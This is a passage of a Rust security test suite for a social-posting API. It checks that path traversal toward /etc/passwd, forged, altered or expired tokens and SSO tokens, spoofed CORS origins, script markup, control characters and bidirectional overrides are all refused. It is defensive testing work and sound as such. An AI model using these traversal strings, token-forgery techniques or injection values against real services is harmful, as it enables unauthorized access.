        cases.push(case("uppercase /V1".into(), path.replacen("/v1/", "/V1/", 1)).error(404, "not_found"));
        cases
    }

    /// Paths as written on the wire: literal `..`, raw invalid UTF-8.
    fn path_tricks(&self) -> Vec<Case> {
        let raw = |what: &str, method: Method, path: &[u8]| Case::new(Area::Paths, what, method, path).wire(Wire::Raw);
        let onto_token = format!("/v1/replies/{REPLY}/../../accounts/acme/tokens/{}", self.seed.acme_cm.id);
        vec![
            // The runtime resolves dot segments as URLs do: /etc/passwd is no route of the API.
            raw("literal ../ out of /v1", Method::GET, b"/v1/accounts/../../etc/passwd").error(404, "not_found"),
            raw("encoded %2e%2e segments", Method::GET, b"/v1/accounts/%2e%2e/%2e%2e/etc/passwd")
                .error(404, "not_found"),
            // Resolved to DELETE /v1/posts/acme-1, which still wants the brand.
            raw("literal ../ onto another route", Method::DELETE, b"/v1/accounts/acme/../../posts/acme-1")
                .error(401, "unauthorized"),
            // Resolved to DELETE /v1/me and DELETE /v1/accounts/acme/tokens/{id}: still a visitor's, the operator's.
            raw("literal ../ onto /v1/me", Method::DELETE, b"/v1/accounts/acme/../../me").error(401, "unauthorized"),
            raw("literal ../ onto a brand token", Method::DELETE, onto_token.as_bytes()).error(401, "unauthorized"),
            raw("encoded slashes stay inside the handle", Method::GET, b"/v1/accounts/acme%2F..%2F..%2Fsession")
                .error(404, "account_not_found"),
            raw("raw invalid UTF-8 in the handle", Method::GET, b"/v1/accounts/\xff\xfe")
                .error(404, "account_not_found"),
            raw("raw invalid UTF-8 in the id", Method::GET, b"/v1/posts/acme-\xff").error(400, "invalid_id"),
            raw("raw UTF-8 emoji handle", Method::GET, "/v1/accounts/🐦".as_bytes()).error(404, "account_not_found"),
            // URLs read `\` as `/` in http paths: this is /etc again.
            raw("backslashes", Method::GET, b"/v1/accounts/..\\..\\etc").error(404, "not_found"),
        ]
    }

    /// `?cursor=` and `?limit=`: 400 invalid_cursor or invalid_limit.
    fn lists(&self, route: &Route) -> Vec<Case> {
        if !route.list {
            return Vec::new();
        }
        let path = self.path_of(route);
        let real = if route.path.contains("replies") { &self.seed.thread_next } else { &self.seed.feed_next };
        let query = |what: String, query: String| self.base(route, Area::Lists, what).path(format!("{path}?{query}"));
        let mut cases = Vec::new();
        let mut bad_cursors = bad_cursors();
        bad_cursors.extend([
            ("a real cursor, uppercased", real.to_uppercase()),
            ("a real cursor with a leading zero", format!("0{real}")),
            ("a real cursor, negated", format!("-{real}")),
            ("a real cursor with NUL appended", format!("{real}%00")),
            ("a real cursor with = appended", format!("{real}%3D")),
            ("a real cursor with a space appended", format!("{real}%20")),
        ]);
        for (what, cursor) in bad_cursors {
            cases.push(query(format!("cursor {what}"), format!("cursor={cursor}")).error(400, "invalid_cursor"));
        }
        for (what, limit) in bad_limits() {
            cases.push(query(format!("limit {what}"), format!("limit={limit}")).error(400, "invalid_limit"));
        }
        cases.push(
            query("a bad limit with a good cursor".into(), format!("cursor={real}&limit=0"))
                .error(400, "invalid_limit"),
        );
        cases.push(query("a good limit, then a bad one".into(), "limit=5&limit=51".into()).error(400, "invalid_limit"));
        cases.push(
            query("a good cursor, then a bad one".into(), format!("cursor={real}&cursor=zzzzzzzzzzzzz"))
                .error(400, "invalid_cursor"),
        );
        // Cursors are plain numbers: one well formed but made up is a position
        // like any other, and lists what is there (maybe nothing).
        for (what, cursor) in [("0", "0"), ("past the end", "zz"), ("the largest number", U64_MAX_B36)] {
            cases.push(query(format!("made-up cursor {what}"), format!("cursor={cursor}")).ok(200));
        }
        cases.push(query("limit given twice, both valid".into(), "limit=1&limit=50".into()).ok(200));
        cases
    }

    /// A well-formed cursor does not make an unknown account or post exist.
    fn unknown_with_cursor(&self) -> Vec<Case> {
        let get = |what: &str, path: String| Case::new(Area::Lists, what, Method::GET, path);
        vec![
            get("unknown account, cursor 1", format!("/v1/accounts/{GHOST}/posts?cursor=1"))
                .error(404, "account_not_found"),
            get("unknown account, cursor 0", format!("/v1/accounts/{GHOST}/posts?cursor=0"))
                .error(404, "account_not_found"),
            get("unknown account, cursor past page 0", format!("/v1/accounts/{GHOST}/posts?cursor=zz"))
                .error(404, "account_not_found"),
            // Page 0 of a thread is written with its post: its absence says "no such post".
            Case::new(Area::Lists, "unknown post, cursor in page 0", Method::GET, "/v1/posts/acme-zz/replies?cursor=1")
                .error(404, "post_not_found"),
            get("unknown post, cursor in page 1", "/v1/posts/acme-zz/replies?cursor=1e".into())
                .error(404, "post_not_found"),
            get("deleted post, cursor in page 1", format!("/v1/posts/{DELETED}/replies?cursor=1e"))
                .error(404, "post_not_found"),
            get("unknown account's post, largest cursor", format!("/v1/posts/ghost-0/replies?cursor={U64_MAX_B36}"))
                .error(404, "post_not_found"),
        ]
    }

    /// Tokens that are not the right one: 401 unauthorized; the right kind of
    /// valid token for another role: 403 forbidden.
    fn tokens(&self, route: &Route) -> Vec<Case> {
        let me = self.visitor(route);
        let right = match route.who {
            Who::Anyone => return Vec::new(),
            Who::Operator | Who::Brand => self.admin.to_owned(),
            Who::Visitor | Who::Writer => me.token.clone(),
        };
        let far = now_seconds() + 3600 * 24 * 30;
        // Whose token a forger wants: a follower's for visitor calls, anyone's for admin calls.
        let victim = |exp| match route.who {
            Who::Visitor | Who::Writer => {
                Claims { sub: self.seed.ana.visitor.id.clone(), name: "Ana".into(), exp, customer_of: None }
            }
            _ => Claims { sub: "0000000000000000".into(), name: "Admin".into(), exp, customer_of: None },
        };
        let payload_of = |claims: &Claims| token::sign(claims, b"any").split_once('.').unwrap().0.to_owned();
        let (me_payload, me_signature) = me.token.split_once('.').expect("a session token has a dot");
        let me_later =
            Claims { sub: me.visitor.id.clone(), name: me.visitor.name.clone(), exp: u64::MAX, customer_of: None };
        let secret = self.secret.as_bytes();
        let mut admin_minus = self.admin.to_owned();
        admin_minus.pop();
        let bearer = |token: &str| Some(format!("Bearer {token}"));
        let headers: Vec<(&str, Option<String>)> = vec![
            ("no Authorization", None),
            ("Bearer and no token", Some("Bearer".into())),
            ("Bearer and spaces", Some("Bearer      ".into())),
            ("a garbage token", bearer("garbage")),
            ("the right token under Basic", Some(format!("Basic {right}"))),
            ("the right token without the space", Some(format!("Bearer{right}"))),
            ("the right token in quotes", Some(format!("Bearer \"{right}\""))),
            ("the admin token plus a character", bearer(&format!("{}x", self.admin))),
            ("the admin token minus a character", bearer(&admin_minus)),
            ("a visitor token plus a character", bearer(&format!("{}x", me.token))),
            ("a visitor token with its signature cut", bearer(&me.token[..me.token.len() - 3])),
            ("a visitor token with base64 padding", bearer(&format!("{}==", me.token))),
            ("a signature alone", bearer(&format!(".{me_signature}"))),
            ("a payload alone", bearer(&format!("{me_payload}."))),
            ("a payload with no dot", bearer(me_payload)),
            ("three parts", bearer(&format!("{}.x", me.token))),
            ("signed with another secret", bearer(&token::sign(&victim(far), b"not-the-edge-secret"))),
            ("signed with an empty secret", bearer(&token::sign(&victim(far), b""))),
            (
                "altered payload: the victim's claims under a real signature",
                bearer(&format!("{}.{me_signature}", payload_of(&victim(far)))),
            ),
            ("altered payload: a later expiry", bearer(&format!("{}.{me_signature}", payload_of(&me_later)))),
            (
                "expired an hour ago, signed with the real secret",
                bearer(&token::sign(&victim(now_seconds() - 3600), secret)),
            ),
            ("expired at the epoch, signed with the real secret", bearer(&token::sign(&victim(0), secret))),
            ("expiring this second, signed with the real secret", bearer(&token::sign(&victim(now_seconds()), secret))),
            ("an 8,000-character token", bearer(&"a".repeat(8000))),
            ("acme's brand token plus a character", bearer(&format!("{}0", self.seed.acme_cm.token))),
        ];
        let mut cases: Vec<Case> = headers
            .into_iter()
            .map(|(what, header)| self.base(route, Area::Tokens, what).authorization(header).error(401, "unauthorized"))
            .collect();
        cases.push(
            self.base(route, Area::Tokens, "two Authorization headers, the right one second")
                .authorization(bearer("garbage"))
                .also_authorization(format!("Bearer {right}"))
                .error(401, "unauthorized"),
        );
        cases.push(
            self.base(route, Area::Tokens, "invalid UTF-8 in Authorization")
                .authorization(Some(b"Bearer \xff\xfe\xfd".to_vec()))
                .wire(Wire::Raw)
                .error(401, "unauthorized"),
        );
        let in_query = self.base(route, Area::Tokens, "the right token in the query string, none in a header");
        let path = format!("{}?token={right}&access_token={right}", self.path_of(route));
        cases.push(in_query.authorization(None::<String>).path(path).error(401, "unauthorized"));
        // Well-formed brand tokens that are none of acme's: only acme's hub
        // knows, and is asked even where no brand may act, so that they get
        // 401 like any invalid token.
        let (acme_cm, other_cm) = (&self.seed.acme_cm, &self.seed.other_cm);
        let other_id_and_secret = other_cm.token.split_once('.').expect("a brand token has dots").1;
        for (what, token) in [
            ("acme's brand token with a forged secret", format!("{ACME}.{}.{}", acme_cm.id, "0".repeat(32))),
            ("acme's revoked brand token", self.seed.revoked.token.clone()),
            ("other's brand token id and secret under acme's handle", format!("{ACME}.{other_id_and_secret}")),
        ] {
            cases.push(self.base(route, Area::Tokens, what).bearer(&token).error(401, "unauthorized"));
        }
        let made_up = format!("{GHOST}.0a1b2c3d.{}", "f".repeat(32));
        let made_up = self.base(route, Area::Tokens, "a brand token made up for an unknown account").bearer(&made_up);
        cases.push(made_up.error(401, "unauthorized"));
        let mallory = self.seed.mallory.token.as_str();
        let wrong_roles: Vec<(&str, &str)> = match route.who {
            Who::Anyone => Vec::new(),
            Who::Operator => vec![
                ("a visitor token on an operator call", mallory),
                ("acme's brand token on an operator call", acme_cm.token.as_str()),
            ],
            Who::Brand => vec![
                ("a visitor token on a brand call", mallory),
                ("other's brand token on an acme call", other_cm.token.as_str()),
            ],
            Who::Visitor => vec![
                ("the admin token on a visitor call", self.admin),
                ("acme's brand token on a visitor call", acme_cm.token.as_str()),
            ],
            // Visitors and the brand both write in conversations (see trust.rs); a visitor deletes only their own.
            Who::Writer if route.method == Method::DELETE => vec![
                ("other's brand token on an acme reply", other_cm.token.as_str()),
                ("a visitor who did not write the reply", mallory),
            ],
            Who::Writer => vec![("other's brand token on an acme post", other_cm.token.as_str())],
        };
        for (what, token) in wrong_roles {
            cases.push(self.base(route, Area::Tokens, what).bearer(token).error(403, "forbidden"));
        }
        cases
    }

    /// SSO tokens acme's site did not sign, or that it no longer vouches
    /// for: 401; signed, but for no one a visitor can be: 422.
    fn sso_tokens(&self) -> Vec<Case> {
        let case = |what: &str, account: &str, sso: &str| {
            Case::new(Area::Tokens, format!("SSO: {what}"), Method::POST, "/v1/session/sso")
                .body(sso_sign_in(account, sso))
        };
        let now = now_seconds();
        let far = now + 3600 * 24 * 30;
        let customer =
            |sub: &str, name: &str, exp| Claims { sub: sub.into(), name: name.into(), exp, customer_of: None };
        let good: &str = &CUSTOMER_SSO;
        let (payload, signature) = good.split_once('.').expect("an SSO token has a dot");
        let payload_of = |claims| sso_token(claims, "any").split_once('.').unwrap().0.to_owned();
        let mut cases: Vec<Case> = [
            ("empty", String::new()),
            ("garbage", "garbage".into()),
            (
                "signed with another secret",
                sso_token(customer(CUSTOMER_SUB, CUSTOMER_NAME, far), "not-acme-s-0123456789"),
            ),
            ("signed with an empty secret", sso_token(customer(CUSTOMER_SUB, CUSTOMER_NAME, far), "")),
            (
                "signed with the edge's session secret",
                sso_token(customer(CUSTOMER_SUB, CUSTOMER_NAME, far), self.secret),
            ),
            ("a visitor's session token", self.seed.mallory.token.clone()),
            ("the admin token", self.admin.into()),
            ("acme's brand token", self.seed.acme_cm.token.clone()),
            (
                "another customer's claims under a real signature",
                format!("{}.{signature}", payload_of(customer("client-8", "Mallory", far))),
            ),
            (
                "a later expiry under a real signature",
                format!("{}.{signature}", payload_of(customer(CUSTOMER_SUB, CUSTOMER_NAME, u64::MAX))),
            ),
            ("expired an hour ago", customer_sso(now - 3600)),
            ("expired at the epoch", customer_sso(0)),
            ("expiring this second", customer_sso(now)),
            ("its signature cut", good[..good.len() - 3].into()),
            ("plus a character", format!("{good}x")),
            ("with base64 padding", format!("{good}==")),
            ("a signature alone", format!(".{signature}")),
            ("a payload alone", format!("{payload}.")),
            ("three parts", format!("{good}.x")),
            ("of 8,000 characters", "a".repeat(8000)),
        ]
        .into_iter()
        .map(|(what, sso)| case(what, ACME, &sso).error(401, "unauthorized"))
        .collect();
        cases.push(
            case("acme's good token, for other (which has no SSO secret)", OTHER, good).error(401, "unauthorized"),
        );
        cases.push(case("acme's good token, for an unknown account", GHOST, good).error(404, "account_not_found"));
        for (what, name) in [("empty", ""), ("NUL", "a\0b"), ("right-to-left override", "\u{202E}eoZ")]
            .into_iter()
            .map(|(what, name)| (what, name.to_owned()))
            .chain([("41 characters", "z".repeat(41))])
        {
            let sso = sso_token(customer(CUSTOMER_SUB, &name, far), SSO_SECRET);
            cases.push(case(&format!("signed by acme, the name {what}"), ACME, &sso).error(422, "invalid_name"));
        }
        cases
    }

    /// What the brand hid stays hidden, and dan's hidden reply stays his, to
    /// delete: showing it again is the brand's alone.
    fn hidden_stays_hidden(&self) -> Vec<Case> {
        let seed = self.seed;
        let (reply, post) = (format!("/v1/replies/{HIDDEN_REPLY}/hidden"), format!("/v1/posts/{HIDDEN_POST}/hidden"));
        let show = |what: &str, path: &str| {
            Case::new(Area::Tokens, format!("showing {what}"), Method::PUT, path).body(br#"{"hidden":false}"#.to_vec())
        };
        let delete = |what: &str| {
            let path = format!("/v1/replies/{HIDDEN_REPLY}");
            Case::new(Area::Tokens, format!("deleting acme's hidden reply, {what}"), Method::DELETE, path)
        };
        vec![
            show("acme's hidden reply, no token", &reply).error(401, "unauthorized"),
            show("acme's hidden reply, as its author", &reply).bearer(&seed.dan.token).error(403, "forbidden"),
            show("acme's hidden reply, as another visitor", &reply).bearer(&seed.mallory.token).error(403, "forbidden"),
            show("acme's hidden reply, with other's brand token", &reply)
                .bearer(&seed.other_cm.token)
                .error(403, "forbidden"),
            show("acme's hidden reply, with acme's revoked brand token", &reply)
                .bearer(&seed.revoked.token)
                .error(401, "unauthorized"),
            show("other's hidden post, no token", &post).error(401, "unauthorized"),
            show("other's hidden post, as a visitor", &post).bearer(&seed.mallory.token).error(403, "forbidden"),
            show("other's hidden post, with acme's brand token", &post)
                .bearer(&seed.acme_cm.token)
                .error(403, "forbidden"),
            delete("no token").error(401, "unauthorized"),
            delete("as another visitor").bearer(&seed.mallory.token).error(403, "forbidden"),
            delete("with other's brand token").bearer(&seed.other_cm.token).error(403, "forbidden"),
            Case::new(
                Area::Tokens,
                "other's hidden list, with acme's brand token",
                Method::GET,
                "/v1/accounts/other/hidden",
            )
            .bearer(&seed.acme_cm.token)
            .error(403, "forbidden"),
        ]
    }

    /// acme lets one site write through its widget (SHOP). A visitor's write
    /// from any other site is refused, and so is its CORS preflight, without
    /// CORS headers: 403 origin_not_allowed. Every other preflight is let
    /// through (204), whatever its site; none is a 5xx.
    fn origins(&self) -> Vec<Case> {
        let mut cases = Vec::new();
        let preflight = |what: String, path: String, method: &str| {
            Case::new(Area::Origins, what, Method::OPTIONS, path)
                .header("access-control-request-method", method)
                .header("access-control-request-headers", "authorization, content-type")
        };
        for route in routes().iter().filter(|route| route.method != Method::GET) {
            let (path, method) = (self.path_of(route), route.method.as_str());
            let what = |from: &str| format!("preflight of {method} {} from {from}", route.path);
            cases.push(preflight(what("acme's site"), path.clone(), method).header("origin", SHOP).empty(204));
            cases.push(preflight(what("no site"), path.clone(), method).empty(204));
            let evil = preflight(what("another site"), path, method).header("origin", EVIL);
            cases.push(if route.is_visitor_write() { evil.error(403, "origin_not_allowed") } else { evil.empty(204) });
        }
        // Each not acme's site as a browser sends it: text compared, not parsed.
        let not_shop: Vec<(&str, String)> = [
            ("an opaque origin", "null"),
            ("acme's site, uppercased", "https://SHOP.EXAMPLE"),
            ("acme's site with a trailing slash", "https://shop.example/"),
            ("acme's site with its default port", "https://shop.example:443"),
            ("acme's site over http", "http://shop.example"),
            ("a subdomain of acme's site", "https://evil.shop.example"),
            ("acme's site as a subdomain", "https://shop.example.evil.example"),
            ("acme's site and another in one header", "https://shop.example, https://evil.example"),
        ]
        .into_iter()
        .map(|(what, origin)| (what, origin.to_owned()))
        .chain([("8,000 characters", format!("https://{}.example", "a".repeat(8000)))])
        .collect();
        let reply_path = format!("/v1/posts/{THREAD}/replies");
        let reply = |what: String| {
            Case::new(Area::Origins, what, Method::POST, reply_path.clone())
                .bearer(&self.seed.mallory.token)
                .body(valid_body(Takes::Text))
        };
        for (what, origin) in &not_shop {
            let preflight = preflight(format!("preflight of a reply from {what}"), reply_path.clone(), "POST");
            cases.push(preflight.header("origin", origin.clone()).error(403, "origin_not_allowed"));
            let write = reply(format!("a reply from {what}"));
            cases.push(write.header("origin", origin.clone()).error(403, "origin_not_allowed"));
        }
        // Bytes no browser sends in an Origin, on the wire as written.
        let raw_origin = "https://sh\u{f6}p.example";
        cases.push(
            preflight("preflight of a reply from non-ASCII bytes".into(), reply_path.clone(), "POST")
                .header("origin", raw_origin)
                .wire(Wire::Raw)
                .error(403, "origin_not_allowed"),
        );
        let write = reply("a reply from non-ASCII bytes".into());
        cases.push(write.header("origin", raw_origin).wire(Wire::Raw).error(403, "origin_not_allowed"));
        let write = reply("a reply from acme's site, then another, in two headers".into());
        cases.push(write.header("origin", SHOP).header("origin", EVIL).error(403, "origin_not_allowed"));
        // The other visitor writes, from another site, each otherwise taken.
        let (ana, mallory) = (&self.seed.ana.token, &self.seed.mallory.token);
        let follow = "/v1/accounts/acme/follow";
        for (what, method, path, token, body) in [
            ("ana deletes her reply", Method::DELETE, format!("/v1/replies/{REPLY}"), ana, None),
            ("a follow", Method::PUT, follow.into(), mallory, None),
            ("ana unfollows", Method::DELETE, follow.into(), ana, None),
            ("an SSO sign-in", Method::POST, "/v1/session/sso".into(), mallory, Some(sso_sign_in(ACME, &CUSTOMER_SSO))),
        ] {
            let mut case = Case::new(Area::Origins, format!("{what}, from another site"), method, path).bearer(token);
            if let Some(body) = body {
                case = case.body(body);
            }
            cases.push(case.header("origin", EVIL).error(403, "origin_not_allowed"));
        }
        // Preflights that name no account listing sites, from another site.
        for (what, path) in [
            ("a reply on other's post (other lists no site)", "/v1/posts/other-0/replies".to_owned()),
            ("a follow of an unknown account", format!("/v1/accounts/{GHOST}/follow")),
            ("a follow of an invalid handle", "/v1/accounts/Acme/follow".into()),
            ("a reply to an invalid id", "/v1/posts/acme-01/replies".into()),
            ("an unknown path", "/v1/nothing/here".into()),
        ] {
            cases.push(preflight(format!("preflight of {what}"), path, "POST").header("origin", EVIL).empty(204));
        }
        cases.push(
            preflight("preflight of a reply asking for PURGE, from acme's site".into(), reply_path, "PURGE")
                .header("origin", SHOP)
                .empty(204),
        );
        cases
    }

    /// Every method a path does not define: 405; /live without upgrade: 426.
    fn methods(&self) -> Vec<Case> {
        let routes = routes();
        let mut paths: Vec<(String, Vec<Method>)> = Vec::new();
        for route in &routes {
            let path = self.path_of(route);
            match paths.iter_mut().find(|(p, _)| *p == path) {
                Some((_, methods)) => methods.push(route.method.clone()),
                None => paths.push((path, vec![route.method.clone()])),
            }
        }
        let purge = Method::from_bytes(b"PURGE").unwrap();
        let mut cases = Vec::new();
        for (path, allowed) in paths {
            for method in [Method::GET, Method::POST, Method::PUT, Method::DELETE, Method::PATCH, purge.clone()] {
                if !allowed.contains(&method) {
                    let what = format!("{method} is not a method of this path");
                    cases.push(
                        Case::new(Area::Methods, what, method.clone(), path.clone()).error(405, "method_not_allowed"),
                    );
                }
            }
        }
        let live = |what: &str, handle: &str| {
            Case::new(Area::Methods, what, Method::GET, format!("/v1/accounts/{handle}/live"))
        };
        let handshake = |case: Case| {
            case.header("upgrade", "websocket")
                .header("connection", "Upgrade")
                .header("sec-websocket-key", "dGhlIHNhbXBsZSBub25jZQ==")
                .header("sec-websocket-version", "13")
                .wire(Wire::Raw)
        };
        cases.extend([
            live("/live without Upgrade", ACME).error(426, "upgrade_required"),
            live("/live of an unknown account without Upgrade", GHOST).error(426, "upgrade_required"),
            live("/live with Upgrade: h2c", ACME)
                .header("upgrade", "h2c")
                .header("connection", "Upgrade")
                .error(426, "upgrade_required"),
            live("/live with Connection: Upgrade and no Upgrade", ACME)
                .header("connection", "Upgrade")
                .error(426, "upgrade_required"),
            handshake(live("/live WebSocket handshake for an unknown account", GHOST)).error(404, "account_not_found"),
            handshake(live("/live WebSocket handshake for an invalid handle", "Acme")).error(404, "account_not_found"),
            handshake(Case::new(
                Area::Methods,
                "WebSocket handshake on the feed",
                Method::GET,
                "/v1/accounts/acme/posts",
            ))
            .ok(200),
        ]);
        cases
    }
}

// ----- the hostile values -----

/// Post and reply texts the rules refuse, with the code each gets.
fn bad_texts() -> Vec<(&'static str, String, &'static str)> {
    let markup: String = "<script>alert(1)</script>".repeat(6).chars().take(141).collect();
    vec![
        ("empty", String::new(), "text_empty"),
        ("whitespace only", " \n\t \u{3000} ".into(), "text_empty"),
        ("zero-width only", "\u{200B}\u{200C}\u{200D}\u{2060}\u{FEFF}".into(), "text_empty"),
        ("soft hyphen and zero-width spaces", " \u{AD}\u{200B} \u{200B} ".into(), "text_empty"),
        ("NUL inside", "a\u{0}b".into(), "text_invalid"),
        ("NUL alone", "\u{0}".into(), "text_invalid"),
        ("bell", "ding\u{7}".into(), "text_invalid"),
        ("ANSI escape", "\u{1b}[31mred\u{1b}[0m".into(), "text_invalid"),
        ("carriage return", "one\rtwo".into(), "text_invalid"),
        ("DEL", "a\u{7f}b".into(), "text_invalid"),
        ("C1 control", "a\u{9b}31mb".into(), "text_invalid"),
        ("right-to-left override", "invoice\u{202E}fdp.exe".into(), "text_invalid"),
        ("left-to-right override", "\u{202D}abc".into(), "text_invalid"),
        ("right-to-left embedding", "\u{202B}abc\u{202C}".into(), "text_invalid"),
        ("right-to-left isolate", "\u{2067}abc\u{2069}".into(), "text_invalid"),
        ("override among zero-width characters", "\u{200B}\u{202E}\u{200B}".into(), "text_invalid"),
        ("141 characters", "x".repeat(141), "text_too_long"),
        ("141 characters inside spaces", format!("   {}   ", "x".repeat(141)), "text_too_long"),
        ("141 flags", "🇫🇷".repeat(141), "text_too_long"),
        ("141 ZWJ families", "👨‍👩‍👧‍👦".repeat(141), "text_too_long"),
        ("141 accented letters", "e\u{301}".repeat(141), "text_too_long"),
        ("141 characters of markup", markup, "text_too_long"),
    ]
}

/// Display names (visitor or account) the rules refuse: all invalid_name.
fn bad_names() -> Vec<(&'static str, String)> {
    let mut names: Vec<(&str, String)> = bad_texts().into_iter().map(|(what, text, _)| (what, text)).collect();
    names.push(("41 characters", "n".repeat(41)));
    names.push(("41 emoji", "🐦".repeat(41)));
    names.push(("two lines", "two\nlines".into()));
    names
}

/// Handles an account cannot be created with: all invalid_handle.
fn bad_handles() -> Vec<(&'static str, String)> {
    [
        ("empty", ""),
        ("a space", " "),
        ("leading space", " acme2"),
        ("uppercase", "Intruder"),
        ("hyphen", "in-truder"),
        ("space inside", "in truder"),
        ("../", "../intruder"),
        ("..", ".."),
        (".", "."),
        ("slash", "in/truder"),
        ("encoded slash", "in%2Ftruder"),
        ("backslash", "in\\truder"),
        ("accented", "intrudé"),
        ("NUL", "intruder\u{0}"),
        ("newline", "intruder\n"),
        ("markup", "<script>"),
        ("right-to-left override", "\u{202E}redurtni"),
        ("zero-width space", "intruder\u{200B}"),
        ("fullwidth letters", "ｉｎｔｒｕｄｅｒ"),
    ]
    .into_iter()
    .map(|(what, handle)| (what, handle.to_owned()))
    .chain([("31 characters", "h".repeat(31)), ("1,000 characters", "h".repeat(1000))])
    .collect()
}

/// Bios the rules refuse (an empty bio is fine).
fn bad_bios() -> Vec<(&'static str, String, &'static str)> {
    vec![
        ("281 characters", "b".repeat(281), "text_too_long"),
        ("NUL", "a\u{0}b".into(), "text_invalid"),
        ("ANSI escape", "\u{1b}[2J".into(), "text_invalid"),
        ("right-to-left override", "we \u{202E}sell".into(), "text_invalid"),
        ("zero-width only", "\u{200B}\u{200D}\u{FEFF}".into(), "text_empty"),
    ]
}

/// Handles in a path (percent-encoding as sent): none is a handle.
fn bad_handles_in_path() -> Vec<(&'static str, String)> {
    [
        ("empty", ""),
        ("uppercase", "Acme"),
        ("hyphen", "ac-me"),
        ("encoded ../", "..%2F..%2Fetc%2Fpasswd"),
        ("encoded slash", "acme%2Fposts"),
        ("NUL", "acme%00"),
        ("encoded space", "acme%20"),
        ("encoded newline", "acme%0A"),
        ("emoji", "%F0%9F%90%A6"),
        ("invalid UTF-8", "%FF%FE"),
        ("zero-width space", "acme%E2%80%8B"),
        ("right-to-left override", "%E2%80%AEemca"),
        ("fullwidth letter", "%EF%BD%81cme"),
        ("markup", "%3Cscript%3E"),
        ("semicolon", "acme;x"),
    ]
    .into_iter()
    .map(|(what, handle)| (what, handle.to_owned()))
    .chain([("31 characters", "a".repeat(31)), ("8,000 characters", "a".repeat(8000))])
    .collect()
}

/// Post ids (in a path) that are not ids: all invalid_id.
fn bad_ids() -> Vec<(&'static str, String)> {
    [
        ("with no number", "acme"),
        ("with an empty number", "acme-"),
        ("with no handle", "-0"),
        ("with a leading zero", "acme-01"),
        ("00", "acme-00"),
        ("with an uppercase handle", "Acme-0"),
        ("with an uppercase digit", "acme-1Z"),
        ("with a trailing dash", "acme-0-"),
        ("of a reply", "acme-0-0"),
        ("with two dashes", "acme--0"),
        ("with a sign", "acme-+1"),
        ("with a decimal", "acme-1.5"),
        ("of 14 digits", "acme-zzzzzzzzzzzzzz"),
        ("of 13 z, over u64", "acme-zzzzzzzzzzzzz"),
        ("a dash alone", "-"),
        ("with an emoji handle", "%F0%9F%90%A6-1"),
        ("over u64", &format!("acme-{U64_OVER_B36}")),
        ("with NUL", "acme-0%00"),
        ("NUL", "%00"),
        ("with an encoded ../", "..%2Facme-0"),
        ("with an encoded /.. after", "acme-0%2F..%2F.."),
        ("with an emoji number", "acme-%F0%9F%90%A6"),
        ("with invalid UTF-8", "acme-%FF"),
        ("with an encoded space", "acme-%200"),
        ("with an encoded newline", "acme-0%0A"),
        ("with markup", "%3Cscript%3E-0"),
        ("with a 31-character handle", &format!("{}-0", "a".repeat(31))),
        ("of 8,000 characters", &"a".repeat(8000)),
    ]
    .into_iter()
    .map(|(what, id)| (what, id.to_owned()))
    .collect()
}

/// Reply ids (in a path) that are not ids: all invalid_id. A bad post id
/// makes a bad reply id, and so does a bad number after a good post id.
fn bad_reply_ids() -> Vec<(String, String)> {
    let of_bad_posts = bad_ids().into_iter().map(|(what, id)| (format!("of a post id {what}"), format!("{id}-0")));
    let bad_numbers = [
        ("a post id alone", ""),
        ("with a leading zero", "01"),
        ("00", "00"),
        ("with an uppercase digit", "Z"),
        ("with a sign", "+1"),
        ("negative", "-0"),
        ("with a decimal", "1.5"),
        ("of 14 digits", "zzzzzzzzzzzzzz"),
        ("over u64", U64_OVER_B36),
        ("NUL", "%00"),
        ("with NUL", "0%00"),
        ("invalid UTF-8", "%FF"),
        ("an emoji", "%F0%9F%90%A6"),
        ("with an encoded space", "%200"),
        ("with an encoded newline", "0%0A"),
        ("with markup", "%3Cscript%3E"),
    ];
    let bad_numbers = bad_numbers.into_iter().map(|(what, n)| (format!("number {what}"), format!("{THREAD}-{n}")));
    of_bad_posts.chain(bad_numbers).collect()
}

/// Settings the rules refuse (`field`, what, value): all invalid_settings.
fn bad_settings() -> Vec<(&'static str, &'static str, Value)> {
    let words = |what, value| ("blocked_words", what, value);
    let origin = |what, origin: &str| ("origins", what, json!([origin]));
    vec![
        words("an empty word", json!(["arnaque", ""])),
        words("a word of spaces", json!(["   "])),
        words("a word of tabs and newlines", json!(["\t\n"])),
        words("a word of 51 characters", json!(["w".repeat(51)])),
        words("a word of 51 emoji", json!(["🐦".repeat(51)])),
        words("201 words", json!((0..=200).map(|n| format!("w{n}")).collect::<Vec<_>>())),
        origin("no scheme", "shop.example"),
        origin("ftp", "ftp://shop.example"),
        origin("a scheme alone", "https://"),
        origin("a path", "https://shop.example/path"),
        origin("a query", "https://shop.example?x=1"),
        origin("a fragment", "https://shop.example#top"),
        origin("a user", "https://user@shop.example"),
        origin("a backslash and a user", "https://shop.example\\@evil.example"),
        origin("an empty label", "https://shop..example"),
        origin("port 0", "https://shop.example:0"),
        origin("port 99999", "https://shop.example:99999"),
        origin("an empty port", "https://shop.example:"),
        origin("a space in the host", "https://sh op.example"),
        origin("javascript:", "javascript://alert(1)"),
        origin("null", "null"),
        origin("a star", "*"),
        origin("a wildcard host", "https://*.example"),
        origin("empty brackets", "https://[]"),
        origin("fullwidth letters", "https://ｓｈｏｐ.example"),
        origin("NUL in the host", "https://shop\0.example"),
        origin("a host of 254 characters", &format!("https://{}", "a".repeat(254))),
        origin("empty", ""),
        ("origins", "51 sites", json!((0..=50).map(|n| format!("https://s{n}.example")).collect::<Vec<_>>())),
    ]
}

/// Cursors (in a query, encoded as sent) that are not cursors: all invalid_cursor.
fn bad_cursors() -> Vec<(&'static str, String)> {
    [
        ("empty", ""),
        ("negative", "-1"),
        ("00", "00"),
        ("leading zero", "01"),
        ("NUL", "%00"),
        ("decimal", "1.5"),
        ("uppercase", "A"),
        ("14 digits", "zzzzzzzzzzzzzz"),
        ("13 z, over u64", "zzzzzzzzzzzzz"),
        ("over u64", U64_OVER_B36),
        ("invalid UTF-8", "%FF"),
        ("a space", "%20"),
        ("a trailing space", "1%20"),
        ("hexadecimal", "0x1"),
        ("fullwidth digit", "%EF%BC%91"),
        ("encoded ../", "..%2F1"),
        ("base64 JSON", "eyJzZXEiOjF9"),
        ("markup", "%3Cscript%3E"),
    ]
    .into_iter()
    .map(|(what, cursor)| (what, cursor.to_owned()))
    .chain([("of 8,000 characters", "z".repeat(8000))])
    .collect()
}

/// Limits that are not 1 to 50: all invalid_limit.
fn bad_limits() -> Vec<(&'static str, String)> {
    [
        ("0", "0"),
        ("51", "51"),
        ("negative", "-1"),
        ("a word", "abc"),
        ("decimal", "1.5"),
        ("empty", ""),
